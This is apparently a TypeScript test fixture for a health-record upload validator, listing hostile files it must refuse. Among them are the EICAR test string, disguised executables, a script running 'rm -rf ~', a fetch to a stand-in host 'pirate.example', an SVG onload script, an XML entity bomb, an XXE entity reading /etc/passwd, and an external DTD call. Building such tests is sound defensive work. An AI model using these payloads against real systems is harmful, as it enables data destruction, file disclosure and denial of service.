import type { RefusedBecause } from '../../functions/record/document/document-codes.ts';
import type { Insured } from '../../local/demo/citizen.ts';
import { reportAbout, sample, TEST_ROOT } from '../document/samples.ts';

type People = { readonly attacker: Insured; readonly victim: Insured };

/** A file that must not be kept, what it claims to be, and why it is refused. */
export type Hostile = {
  readonly what: string;
  readonly format: string;
  readonly because: RefusedBecause;
  readonly bytes: (people: People) => Buffer;
};

const REAL_ROOT = '1.2.250.1.213.1.4.8';
const CDA = 'application/hl7-cda+xml';

// The industry's harmless test file; in two parts so that no scanner takes this source for a threat.
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

/** A report about the attacker, changed. */
const reportWith =
  (from: string | RegExp, to: string) =>
  ({ attacker }: People) =>
    Buffer.from(
      reportAbout(attacker)
        .toString('utf8')
        .replace(from, () => to),
    );

const declared = (type: string) =>
  reportWith('<ClinicalDocument', `<!DOCTYPE ClinicalDocument [${type}]>\n<ClinicalDocument`);

const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');

/** The files, one kind a line. */
export const HOSTILE: readonly Hostile[] = [
  { what: 'a virus', format: 'text/plain', because: 'malware', bytes: () => Buffer.from(EICAR) },
  {
    what: 'a virus inside a PDF',
    format: 'application/pdf',
    because: 'malware',
    bytes: () => Buffer.concat([sample('application/pdf'), Buffer.from(EICAR)]),
  },
  {
    what: 'a program of Windows named PDF',
    format: 'application/pdf',
    because: 'other-format',
    bytes: () => Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), sample('application/pdf')]),
  },
  {
    what: 'a program of Linux named photo',
    format: 'image/jpeg',
    because: 'other-format',
    bytes: () => Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'),
  },
  {
    what: 'a script named text',
    format: 'text/plain',
    because: 'other-format',
    bytes: () => Buffer.from('#!/bin/sh\nrm -rf ~\n'),
  },
  {
    what: 'a web page named text',
    format: 'text/plain',
    because: 'other-format',
    bytes: () => Buffer.from('\n <!doctype html><script>fetch("//pirate.example")</script>'),
  },
  {
    what: 'a drawing with a script named photo',
    format: 'image/png',
    because: 'other-format',
    bytes: () => Buffer.from('<svg onload="alert(1)"/>'),
  },
  {
    what: 'an archive named PDF',
    format: 'application/pdf',
    because: 'other-format',
    bytes: () => Buffer.from('PK\x03\x04'),
  },
  {
    what: 'a web page named CDA',
    format: CDA,
    because: 'cda-not-readable',
    bytes: () => Buffer.from('<html xmlns="http://www.w3.org/1999/xhtml"/>'),
  },
  {
    what: 'a CDA document cut short',
    format: CDA,
    because: 'cda-not-readable',
    bytes: ({ attacker }) => reportAbout(attacker).subarray(0, 900),
  },
  {
    what: 'a bomb of entities',
    format: CDA,
    because: 'cda-not-readable',
    bytes: declared(`<!ENTITY l0 "ha">${laughs}`),
  },
  {
    what: 'a reader of files of ours',
    format: CDA,
    because: 'cda-not-readable',
    bytes: declared('<!ENTITY f SYSTEM "file:///etc/passwd">'),
  },
  {
    what: 'a caller of other sites',
    format: CDA,
    because: 'cda-not-readable',
    bytes: declared('<!ENTITY % d SYSTEM "http://pirate.example/d.dtd"> %d;'),
  },
  {
    what: 'a CDA document of a million levels',
    format: CDA,
    because: 'cda-not-readable',
    bytes: reportWith('<component>', `<component>${'<section>'.repeat(1_000_000)}`),
  },
  {
    what: 'a CDA document about somebody else',
    format: CDA,
    because: 'cda-other-patient',
    bytes: ({ victim }) => reportAbout(victim),
  },
  {
    // Real identities are refused where only those for tests are known, and the reverse (domain.md §2.1).
    what: 'a CDA document with another real number, under the same name and birth date',
    format: CDA,
    because: 'cda-other-patient',
    bytes: ({ attacker }) => {
      const text = reportAbout(attacker).toString('utf8').replace('DUVAL', attacker.familyName);
      return Buffer.from(
        text.replace(`${TEST_ROOT}" extension="${attacker.nir}`, `${REAL_ROOT}" extension="185079933000107`),
      );
    },
  },
  {
    what: 'a CDA document about two people',
    format: CDA,
    because: 'cda-other-patient',
    bytes: reportWith('<author>', '<recordTarget><patientRole/></recordTarget><author>'),
  },
];
